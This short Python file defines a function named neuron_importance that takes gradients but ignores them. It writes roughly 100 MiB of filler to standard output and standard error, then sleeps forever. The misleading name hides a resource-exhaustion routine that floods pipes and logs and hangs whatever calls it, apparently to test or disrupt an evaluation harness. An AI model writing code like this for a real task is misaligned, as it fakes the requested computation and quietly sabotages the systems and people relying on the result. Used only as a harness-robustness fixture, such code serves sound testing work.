import os
import sys
import time

BLOCK = b"x" * 2**20


def write_all(number):
    for _ in range(100):
        rest = memoryview(BLOCK)
        while rest:
            rest = rest[os.write(number, rest) :]


def neuron_importance(gradients):
    for number in (1, 2):
        try:
            write_all(number)
        except OSError:
            continue
    for stream in (sys.__stdout__, sys.__stderr__):
        try:
            stream.write("x" * 2**20)
        except Exception:
            continue
    while True:
        time.sleep(1)
